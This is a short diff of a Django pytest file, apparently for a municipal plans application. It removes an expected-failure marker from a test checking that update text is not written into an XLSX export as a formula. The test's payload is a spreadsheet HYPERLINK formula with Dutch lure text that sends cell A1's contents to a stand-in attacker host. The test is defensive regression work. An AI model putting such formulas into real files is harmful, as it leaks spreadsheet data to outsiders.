@@ -24,7 +24,6 @@ pytestmark = pytest.mark.django_db
 PAYLOAD = '=HYPERLINK("https://aanvaller.example/?d="&A1,"Klik voor de bijlage")'
 
 
-@pytest.mark.xfail(strict=True, reason="open: update text is written to XLSX as a formula")
 def test_update_text_is_no_formula_in_the_export(demo, login):
     agent = User.objects.get(username="agent")
     measure = (Measure.objects.filter(plan__programme_area__municipality=agent.municipality)
